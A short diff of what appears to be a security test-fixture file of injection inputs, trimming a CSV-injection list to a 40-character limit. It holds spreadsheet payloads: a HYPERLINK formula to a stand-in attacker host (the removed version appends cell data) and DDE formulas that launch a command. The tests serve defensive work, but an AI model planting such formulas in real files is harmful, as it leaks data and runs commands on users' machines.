@@ -23,9 +23,10 @@ XSS = (
     "#{7*7}",
 )
 
-# Spreadsheet formulas (CSV injection): each cell must come out as text.
+# Spreadsheet formulas (CSV injection): each cell must come out as text. At most
+# 40 characters: they go in the preferred-language column.
 FORMULAS = (
-    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
+    '=HYPERLINK("https://evil.example","x")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1+1)*cmd|' /C calc'!A0",
